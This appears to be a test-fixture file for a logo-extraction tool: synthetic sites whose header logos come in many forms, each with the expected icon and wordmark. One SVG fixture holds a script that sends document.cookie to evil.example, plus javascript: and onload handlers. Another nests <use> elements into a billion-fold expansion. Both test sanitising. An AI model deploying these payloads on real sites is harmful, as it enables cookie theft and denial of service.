@@ -1,0 +1,468 @@
+// Sites whose question is the logo in the header: how it is written there, and for which background.
+import {
+  ardentia,
+  brimstead,
+  cobaltino,
+  crescentia,
+  fennrick,
+  grubenkopf,
+  havrel,
+  jotunfelt,
+  kestrelon,
+  lumbrick,
+  nimbolix,
+  orbifant,
+  oxaly,
+  pellumo,
+  petalune,
+  pinebarrow,
+  ringelweb,
+  saltmarina,
+  skarvind,
+  tarnwick,
+  trivolto,
+  umbrago,
+  voltanea,
+  zephyrine,
+} from './brands.ts'
+import { BLACK, bar, documentOf, element, plate, type Tint, WHITE } from './drawings.ts'
+import { empty } from './generic.ts'
+import { footer, MENU, NAV, SEARCH, SOCIALS } from './parts.ts'
+import { avif, cmyk, file, gif, ico, jpeg, photo, png, pngOf, svg, webp } from './renditions.ts'
+import { jsonLd, page, type Site } from './site.ts'
+
+const title = (name: string) => `<title>${name}</title>`
+const CURRENT: Tint = ['currentColor', 'currentColor']
+const favicon = '<link rel="icon" href="/favicon.ico">'
+const PIXEL = 'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7'
+
+const raster = pngOf(umbrago.lockup(), 720).toString('base64')
+const wide = umbrago.lockup()
+const embedded = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 ${wide.width} 64"><image width="${wide.width}" height="64" xlink:href="data:image/png;base64,${raster}"/></svg>`
+
+const dangerous = documentOf(
+  {
+    ...ringelweb.lockup(),
+    inside: `<script>fetch('https://evil.example/?'+document.cookie)</script><foreignObject width="100" height="20"><div xmlns="http://www.w3.org/1999/xhtml">Hello</div></foreignObject><a href="javascript:alert(1)">${ringelweb.lockup().inside}</a>`,
+  },
+  'onload="alert(1)"',
+)
+/** A thousand million copies of a dot in ten definitions, under a logo. */
+const costly = documentOf({
+  ...lumbrick.lockup(),
+  inside: `<defs><circle id="d0" r=".01"/>${Array.from({ length: 9 }, (_, at) => `<g id="d${at + 1}">${`<use href="#d${at}"/>`.repeat(10)}</g>`).join('')}</defs><use href="#d9"/>${lumbrick.lockup().inside}`,
+})
+/** Painted by a stylesheet that is elsewhere, its mark a picture that is elsewhere. */
+const leaning = `<?xml-stylesheet type="text/css" href="https://assets.cobaltino.com/brand.css"?><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 ${cobaltino.lockup().width} 64"><image width="64" height="64" href="https://assets.cobaltino.com/mark.png"/><rect class="ground" width="100%" height="64"/><g transform="translate(78 14) scale(.8)" class="letters">${cobaltino.letters(['', '']).inside.replace(' stroke=""', '')}</g></svg>`
+
+export const HEADERS: Site[] = [
+  {
+    name: 'a lockup as inline svg after networks, menu and search, with a favicon of the mark',
+    host: 'kestrelon.aero',
+    files: {
+      '/': page(
+        `${title('Kestrelon')}<link rel="icon" type="image/png" sizes="48x48" href="/k48.png">`,
+        `<div class="topbar">${SOCIALS}</div><header>${MENU}${SEARCH}<div class="header__brand"><a href="/" title="Kestrelon – to the home page">${element(kestrelon.lockup(), 'role="img" height="40"')}</a></div>${NAV}</header>${footer('Kestrelon')}`,
+      ),
+      '/k48.png': png(kestrelon.mark(), 48),
+    },
+    right: { icon: ['/k48.png'], wordmark: ['inline:7'] },
+    why: 'Seven svg elements come before it, but one leads home.',
+  },
+  {
+    name: 'mark and letters as two svg elements of one home link',
+    host: 'skarvind-marine.com',
+    files: {
+      '/': page(
+        title('Skarvind Marine'),
+        `<header><a class="brand" href="/">${element(skarvind.mark(), 'class="brand-symbol" height="36"')}${element(skarvind.letters(), 'class="brand-logotype" height="20"')}</a>${NAV}</header>`,
+      ),
+    },
+    right: { icon: ['inline:0'], wordmark: ['inline:1'] },
+    why: 'One is square, one is long, and both are the company’s.',
+  },
+  {
+    name: 'a header logo that uses a symbol of a sprite in the page',
+    host: 'tarnwick-maps.org',
+    files: {
+      '/': page(
+        `${title('Tarnwick Maps')}${favicon}`,
+        `<svg style="display:none"><symbol id="i-close" viewBox="0 0 24 24"><path d="M4 4l16 16M20 4L4 20" stroke="#000"/></symbol><symbol id="logo" viewBox="0 0 ${tarnwick.lockup().width} 64">${tarnwick.lockup().inside}</symbol></svg><header><a href="/" class="logo"><svg class="logo__svg" role="img"><use xlink:href="#logo"></use></svg></a><button><svg><use href="#i-close"/></svg></button></header>`,
+      ),
+      '/favicon.ico': ico(tarnwick.mark(), [16, 32, 48]),
+    },
+    right: { icon: ['/favicon.ico'], wordmark: ['inline:1'] },
+    why: 'The element in the header holds a reference, the drawing is in the sprite.',
+    looks: { 'inline:1': documentOf(tarnwick.lockup()) },
+  },
+  {
+    name: 'a header logo that uses a symbol of a sprite in a file',
+    host: 'zephyrine-kites.com',
+    files: {
+      '/': page(
+        `${title('zephyrine kites')}${favicon}`,
+        '<header><a href="/" class="logo" aria-label="zephyrine"><svg width="200" height="50"><use href="/assets/sprite.svg#brand"></use></svg></a></header>',
+      ),
+      '/assets/sprite.svg': file(
+        'image/svg+xml',
+        `<svg xmlns="http://www.w3.org/2000/svg"><symbol id="arrow" viewBox="0 0 9 9"><path d="M0 0l9 4-9 5z"/></symbol><symbol id="brand" viewBox="0 0 ${zephyrine.lockup().width} 64">${zephyrine.lockup().inside}</symbol></svg>`,
+      ),
+      '/favicon.ico': ico(zephyrine.mark(), [16, 32]),
+    },
+    right: { icon: ['/favicon.ico'], wordmark: ['/assets/sprite.svg#brand', 'inline:0'] },
+    why: 'One symbol of the file is the logo.',
+    looks: {
+      'inline:0': documentOf(zephyrine.lockup()),
+      '/assets/sprite.svg#brand': documentOf(zephyrine.lockup()),
+    },
+  },
+  {
+    name: 'a picture element with a source for dark colour schemes',
+    host: 'pellumo-docs.com',
+    files: {
+      '/': page(
+        `${title('pellumo docs')}${favicon}`,
+        '<header><a href="/"><picture><source media="(prefers-color-scheme: dark)" srcset="/img/pellumo-on-dark.svg"><img src="/img/pellumo.svg" alt="pellumo logo" height="32"></picture></a></header>',
+      ),
+      '/img/pellumo-on-dark.svg': svg(pellumo.lockup(['#cfc6ff', '#cfc6ff'])),
+      '/img/pellumo.svg': svg(pellumo.lockup()),
+      '/favicon.ico': ico(pellumo.mark(), [16, 32]),
+    },
+    right: {
+      icon: ['/favicon.ico'],
+      wordmark: ['/img/pellumo.svg'],
+      dark: { wordmark: ['/img/pellumo-on-dark.svg'] },
+    },
+    why: 'The media query says which is which.',
+  },
+  {
+    name: 'a pair of images of which CSS classes hide one, “dark” meaning the dark ink',
+    host: 'orbifant-ui.dev',
+    files: {
+      '/': page(
+        `${title('orbifant UI')}${favicon}`,
+        '<header class="bg-white dark:bg-gray-900"><a href="/"><img class="h-8 dark:hidden" src="/logo-dark.svg" alt="orbifant"><img class="hidden h-8 dark:block" src="/logo-light.svg" alt="orbifant"></a></header>',
+      ),
+      '/logo-dark.svg': svg(orbifant.lockup(['#2b1055', '#8a5cd6'])),
+      '/logo-light.svg': svg(orbifant.lockup(['#ffffff', '#ffb3c6'])),
+      '/favicon.ico': ico(orbifant.mark(), [16, 32]),
+    },
+    right: {
+      icon: ['/favicon.ico'],
+      wordmark: ['/logo-dark.svg'],
+      dark: { wordmark: ['/logo-light.svg'] },
+    },
+    why: 'White letters are for dark, whatever a file is called.',
+  },
+  {
+    name: 'a white logo over a dark picture, with a navy favicon',
+    host: 'havrel-cruises.com',
+    files: {
+      '/': page(
+        `${title('Havrel Cruises')}${favicon}`,
+        `<header class="header--transparent"><a href="/" class="navbar-brand"><img src="/img/havrel-white.svg" alt="Havrel Cruises"></a>${NAV}</header><section class="hero"><img src="/img/hero.jpg" alt=""></section>`,
+      ),
+      '/img/havrel-white.svg': svg(havrel.lockup(WHITE)),
+      '/img/hero.jpg': await photo(1600, 700, 2),
+      '/favicon.ico': ico(havrel.mark(), [16, 32, 48]),
+    },
+    right: {
+      icon: ['/favicon.ico'],
+      wordmark: [],
+      dark: { icon: [], wordmark: ['/img/havrel-white.svg'] },
+    },
+    why: 'White letters are for dark only, the navy mark for light only.',
+  },
+  {
+    name: 'a white header logo with its dark twin for the header that sticks',
+    host: 'ardentia-grill.com',
+    files: {
+      '/': page(
+        `${title('Ardentia Grill')}${favicon}`,
+        `<header class="overlay sticky"><a class="logo" href="/"><img class="logo-light" src="/i/logo-light.png" alt="Ardentia"><img class="logo-sticky" src="/i/logo-color.png" alt="Ardentia"></a></header>`,
+      ),
+      '/i/logo-light.png': png(ardentia.lockup(WHITE), 500),
+      '/i/logo-color.png': png(ardentia.lockup(), 500),
+      '/favicon.ico': ico(ardentia.mark(), [32]),
+    },
+    right: {
+      icon: ['/favicon.ico'],
+      wordmark: ['/i/logo-color.png'],
+      dark: { wordmark: ['/i/logo-light.png', '/i/logo-color.png'] },
+    },
+    why: 'The coloured one on light; on dark either, for its red holds there as well.',
+  },
+  {
+    name: 'an inline logo in currentColor',
+    host: 'jotunfelt-tools.dev',
+    files: {
+      '/': page(
+        `${title('jotunfelt tools')}<link rel="icon" type="image/svg+xml" href="/icon.svg">`,
+        `<header class="text-slate-900 dark:text-white"><a href="/" aria-label="jotunfelt">${element(jotunfelt.lockup(CURRENT), 'class="h-6"')}</a></header>`,
+      ),
+      '/icon.svg': svg(jotunfelt.mark()),
+    },
+    right: {
+      icon: ['/icon.svg'],
+      wordmark: ['inline:0'],
+      dark: { wordmark: ['inline:0'] },
+    },
+    why: 'It takes the colour of the page’s text: dark on light and white on dark.',
+    looks: { 'inline:0': documentOf(jotunfelt.lockup(BLACK)) },
+  },
+  {
+    name: 'a JSON-LD graph whose Organization refers to its logo by @id, with a wordmark in the header',
+    host: 'pinebarrow-lodge.com',
+    files: {
+      '/': page(
+        `${title('Pinebarrow Lodge')}${jsonLd({
+          '@context': 'https://schema.org',
+          '@graph': [
+            { '@type': 'WebSite', publisher: { '@id': 'https://pinebarrow-lodge.com/#org' } },
+            {
+              ...{ '@type': ['Organization', 'Hotel'], '@id': 'https://pinebarrow-lodge.com/#org' },
+              ...{ name: 'Pinebarrow', logo: { '@id': '#/schema/logo/image/' } },
+            },
+            {
+              ...{ '@type': 'ImageObject', '@id': '#/schema/logo/image/', width: 696, height: 696 },
+              contentUrl: 'https://pinebarrow-lodge.com/uploads/pine-696.png',
+            },
+          ],
+        })}`,
+        '<header><a href="/" class="site-logo"><img src="/uploads/pinebarrow-text.svg" alt="Pinebarrow"></a></header>',
+      ),
+      '/uploads/pine-696.png': png(plate(pinebarrow.mark(), '#ffffff', 0, 7), 696),
+      '/uploads/pinebarrow-text.svg': svg(pinebarrow.letters()),
+    },
+    right: { icon: ['/uploads/pine-696.png'], wordmark: ['/uploads/pinebarrow-text.svg'] },
+    why: 'The graph holds the mark, the header the letters.',
+  },
+  {
+    name: 'a JSON-LD logo that is a wide wordmark, with a header in text',
+    host: 'saltmarina-yachts.gr',
+    files: {
+      '/': page(
+        `${title('Saltmarina')}${favicon}${jsonLd({ '@context': 'https://schema.org', '@type': 'LocalBusiness', name: 'Saltmarina', logo: { '@type': 'ImageObject', url: '/brand/saltmarina.png' } })}`,
+        `<header><h1>Saltmarina</h1>${NAV}</header>`,
+        'el',
+      ),
+      '/brand/saltmarina.png': png(saltmarina.letters(), 720),
+      '/favicon.ico': ico(saltmarina.mark(), [16, 32, 48]),
+    },
+    right: { icon: ['/favicon.ico'], wordmark: ['/brand/saltmarina.png'] },
+    why: 'What is long is a wordmark, wherever it is named.',
+  },
+  {
+    name: 'a JSON-LD logo that is a social photograph of 1200×630',
+    host: 'oxaly-garden.nl',
+    files: {
+      '/': page(
+        `${title('oxaly')}<link rel="icon" href="/o.png" sizes="64x64"><meta property="og:image" content="https://oxaly-garden.nl/social.jpg">${jsonLd({ '@context': 'https://schema.org', '@type': 'Organization', name: 'oxaly', logo: 'https://oxaly-garden.nl/social.jpg' })}`,
+        '<header><a href="/"><img src="/oxaly.svg" alt="oxaly"></a></header>',
+        'nl',
+      ),
+      '/o.png': png(oxaly.mark(), 64),
+      '/social.jpg': await photo(1200, 630, 4),
+      '/oxaly.svg': svg(oxaly.letters()),
+    },
+    right: { icon: ['/o.png'], wordmark: ['/oxaly.svg'] },
+    why: 'A photograph stays a photograph under any name.',
+  },
+  {
+    name: 'a logo only as a CSS background, with a favicon',
+    host: 'trivolto-fluid.ch',
+    files: {
+      '/': page(
+        `${title('Trivolto')}${favicon}<style>.logo{background:url(/img/bg-logo.png) no-repeat;width:220px;height:64px;text-indent:-999em}</style>`,
+        `<header><a href="/" class="logo">Trivolto</a>${NAV}</header>`,
+        'de',
+      ),
+      '/img/bg-logo.png': png(trivolto.lockup(), 440),
+      '/favicon.ico': ico(trivolto.mark(), [16, 32, 64], 'png'),
+    },
+    right: { icon: ['/favicon.ico'] },
+    why: 'The favicon is enough; who reads stylesheets may find a wordmark as well.',
+  },
+  {
+    name: 'a header logo in three densities',
+    host: 'nimbolix-air.com',
+    files: {
+      '/': page(
+        title('nimbolix air'),
+        '<header><a href="/" class="logo"><img src="/l/logo.png" srcset="/l/logo.png 1x, /l/logo@2x.png 2x, /l/logo@3x.png 3x" alt="nimbolix" width="150" height="32"></a></header>',
+      ),
+      '/l/logo.png': png(nimbolix.lockup(), 150),
+      '/l/logo@2x.png': png(nimbolix.lockup(), 300),
+      '/l/logo@3x.png': png(nimbolix.lockup(), 450),
+    },
+    right: { icon: [], wordmark: ['/l/logo@3x.png', '/l/logo@2x.png'] },
+    why: 'The same drawing with more pixels.',
+  },
+  {
+    name: 'a lazy header logo: a placeholder in src, the file in data-src',
+    host: 'brimstead-homes.com',
+    files: {
+      '/': page(
+        `${title('Brimstead Homes')}${favicon}`,
+        `<header><a href="/"><img class="lazyload logo" src="${PIXEL}" data-src="/media/brimstead.png" alt="Brimstead Homes"></a></header>`,
+      ),
+      '/media/brimstead.png': png(brimstead.lockup(), 512),
+      '/favicon.ico': ico(brimstead.mark(), [32]),
+    },
+    right: { icon: ['/favicon.ico'], wordmark: ['/media/brimstead.png'] },
+    why: 'The placeholder is a pixel of nothing.',
+  },
+  {
+    name: 'a header logo for browsers without scripts only',
+    host: 'voltanea-cells.com',
+    files: {
+      '/': page(
+        `${title('voltanea')}${favicon}`,
+        `<header><a href="/"><span class="gatsby-image" data-logo></span><noscript><img src="/static/voltanea-a81f.webp" alt="voltanea logo"></noscript></a></header>`,
+      ),
+      '/static/voltanea-a81f.webp': await webp(voltanea.lockup(), 480),
+      '/favicon.ico': ico(voltanea.mark(), [48]),
+    },
+    right: { icon: ['/favicon.ico'], wordmark: ['/static/voltanea-a81f.webp'] },
+    why: 'noscript holds what the script would put there; and WebP is a picture like any other.',
+  },
+  {
+    name: 'an svg header logo that only wraps a bitmap',
+    host: 'umbrago-rain.co.uk',
+    files: {
+      '/': page(
+        `${title('Umbrago')}${favicon}`,
+        '<header><a href="/" class="logo"><img src="/img/logo.svg" alt="Umbrago"></a></header>',
+      ),
+      '/img/logo.svg': file('image/svg+xml', embedded),
+      '/favicon.ico': ico(umbrago.mark(), [48]),
+    },
+    right: { icon: ['/favicon.ico'], wordmark: ['/img/logo.svg'] },
+    why: 'The bitmap inside is the logo, 720 px wide.',
+  },
+  {
+    name: 'an svg header logo with script, handlers and foreignObject, and a PNG in JSON-LD',
+    host: 'ringelweb-studio.de',
+    files: {
+      '/': page(
+        `${title('ringelweb')}${favicon}${jsonLd({ '@context': 'https://schema.org', '@type': 'Corporation', logo: '/img/ringelweb.png' })}`,
+        '<header><a href="/"><img src="/img/ringelweb.svg" alt="ringelweb"></a></header>',
+        'de',
+      ),
+      '/img/ringelweb.svg': file('image/svg+xml', dangerous),
+      '/img/ringelweb.png': png(ringelweb.lockup(), 600),
+      '/favicon.ico': ico(ringelweb.mark(), [48]),
+    },
+    right: { icon: ['/favicon.ico'], wordmark: ['/img/ringelweb.svg', '/img/ringelweb.png'] },
+    why: 'Without its dangerous parts, or as the bitmap of the same.',
+    looks: { '/img/ringelweb.svg': documentOf(ringelweb.lockup()) },
+  },
+  {
+    name: 'an svg header logo that multiplies itself a thousand million times, and a PNG in JSON-LD',
+    host: 'lumbrick-blocks.com',
+    files: {
+      '/': page(
+        `${title('Lumbrick')}${favicon}${jsonLd({ '@context': 'https://schema.org', '@type': 'Organization', logo: '/img/lumbrick.png' })}`,
+        '<header><a href="/"><img src="/img/lumbrick.svg" alt="Lumbrick"></a></header>',
+      ),
+      '/img/lumbrick.svg': file('image/svg+xml', costly),
+      '/img/lumbrick.png': png(lumbrick.lockup(), 600),
+      '/favicon.ico': ico(lumbrick.mark(), [48]),
+    },
+    right: { icon: ['/favicon.ico'], wordmark: ['/img/lumbrick.png'] },
+    why: 'The vector cannot be afforded; the bitmap shows the same.',
+  },
+  {
+    name: 'an svg header logo that is black without its stylesheet, and a PNG of it in full',
+    host: 'cobaltino.com',
+    files: {
+      '/': page(
+        `${title('cobaltino')}${favicon}${jsonLd({ '@context': 'https://schema.org', '@type': 'Organization', logo: '/brand/cobaltino.png' })}`,
+        '<header><a href="/"><img src="/brand/cobaltino.svg" alt="cobaltino"></a></header>',
+      ),
+      '/brand/cobaltino.svg': file('image/svg+xml', leaning),
+      '/brand/cobaltino.png': png(cobaltino.lockup(), 640),
+      'https://assets.cobaltino.com/brand.css': file(
+        'text/css',
+        '.letters g{stroke:#1d3fbb}.ground{fill:none}',
+      ),
+      'https://assets.cobaltino.com/mark.png': png(cobaltino.mark(), 128),
+      '/favicon.ico': ico(cobaltino.mark(), [48]),
+    },
+    right: { icon: ['/favicon.ico'], wordmark: ['/brand/cobaltino.png'] },
+    why: 'What leans on other files is a black bar by itself.',
+  },
+  {
+    name: 'a header logo in AVIF only',
+    host: 'crescentia-hotels.com',
+    files: {
+      '/': page(
+        `${title('Crescentia Hotels')}${favicon}`,
+        '<header><a href="/" rel="home"><img src="/_img/crescentia.avif" alt="Crescentia"></a></header>',
+      ),
+      '/_img/crescentia.avif': await avif(crescentia.lockup(), 480),
+      '/favicon.ico': ico(crescentia.mark(), [48]),
+    },
+    right: { icon: ['/favicon.ico'], wordmark: ['/_img/crescentia.avif'] },
+    why: 'Every browser shows it.',
+  },
+  {
+    name: 'an animated GIF as header logo',
+    host: 'petalune-retro.org',
+    files: {
+      '/': page(
+        title('Petalune'),
+        '<center><a href="index.html"><img src="images/petalune_anim.gif" alt="Petalune logo" border=0></a></center>',
+      ),
+      '/index.html': page(title('Petalune'), ''),
+      '/images/petalune_anim.gif': await gif(
+        [petalune.mark(), plate(petalune.mark(), null, 0, 3), plate(petalune.mark(), null, 0, 6)],
+        120,
+      ),
+    },
+    right: { icon: ['/images/petalune_anim.gif'], wordmark: null },
+    why: 'Its first picture is the mark at rest.',
+    looks: { '/images/petalune_anim.gif': documentOf(plate(petalune.mark(), '#ffffff', 0, 0)) },
+  },
+  {
+    name: 'a CMYK JPEG from the printer’s as header logo',
+    host: 'grubenkopf-druck.de',
+    files: {
+      '/': page(
+        title('Grubenkopf Druck'),
+        '<div id="kopf"><a href="/"><img src="/bilder/GRUBENKOPF_4c.jpg" alt="Logo" width="300"></a></div>',
+        'de',
+      ),
+      '/bilder/GRUBENKOPF_4c.jpg': await cmyk(bar(grubenkopf.lockup(), '#ffffff', 8), 900),
+    },
+    right: { icon: [], wordmark: ['/bilder/GRUBENKOPF_4c.jpg'] },
+    why: 'Four inks are a colour space; the logo is black on white.',
+  },
+  {
+    name: 'a header logo as JPEG with the page’s grey around it, and the same as clean svg in the footer',
+    host: 'fennrick-sports.com',
+    files: {
+      '/': page(
+        `${title('Fennrick Sports')}${favicon}`,
+        '<header><a href="/" class="logo"><img src="/a/logo.jpg" alt="Fennrick"></a></header><footer><a href="/" class="footer-logo"><img src="/a/logo.svg" alt="Fennrick"></a></footer>',
+      ),
+      '/a/logo.jpg': await jpeg(bar(fennrick.lockup(), '#d9d9d9', 20), 300),
+      '/a/logo.svg': svg(fennrick.lockup()),
+      '/favicon.ico': ico(fennrick.mark(), [32]),
+    },
+    right: { icon: ['/favicon.ico'], wordmark: ['/a/logo.svg'] },
+    why: 'The same lockup, once in a grey box and once free.',
+  },
+  {
+    name: 'an svg of nothing but whitespace in a loader before the logo',
+    host: 'trivolto-lab.org',
+    files: {
+      '/': page(
+        title('Trivolto Lab'),
+        `<div class="preloader logo">${element(empty)}</div><header><a href="/">${element(trivolto.lockup(), 'id="Layer_1" data-name="Layer 1"')}</a></header>`,
+      ),
+    },
+    right: { icon: [], wordmark: ['inline:1'] },
+    why: 'An empty drawing is none.',
+  },
+]
